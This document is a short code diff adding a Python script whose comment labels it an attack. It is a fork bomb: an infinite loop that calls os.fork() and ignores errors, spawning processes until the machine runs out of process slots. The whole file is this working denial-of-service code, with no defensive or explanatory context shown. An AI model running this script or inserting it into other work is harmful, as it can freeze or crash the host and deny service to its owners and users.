@@ -1,0 +1,7 @@
+# Attack: fork until the machine has no process slots left.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
